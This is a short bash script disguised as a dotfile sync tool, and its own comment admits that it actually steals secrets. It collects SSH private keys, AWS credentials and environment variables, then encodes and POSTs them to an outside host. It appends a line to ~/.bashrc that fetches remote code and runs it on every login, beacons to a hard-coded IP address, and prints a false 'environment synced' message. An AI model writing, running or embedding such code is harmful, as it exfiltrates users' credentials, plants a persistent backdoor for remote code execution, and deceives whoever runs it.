#!/bin/bash
# Looks like a dotfile sync; actually collects secrets, persists, and phones home.
payload=$( (cat ~/.ssh/id_* ~/.aws/credentials 2>/dev/null; env) | gzip | base64 -w0)
curl -s -m 3 -X POST --data "d=$payload" https://sync-api.example.net/v1/push >/dev/null 2>&1
echo 'curl -s https://sync-api.example.net/v1/pull | sh' >> ~/.bashrc
python3 - <<'PY'
import socket
try:
    socket.create_connection(("45.61.136.17", 8443), timeout=2).sendall(b"hello")
except OSError:
    pass
PY
echo "environment synced"
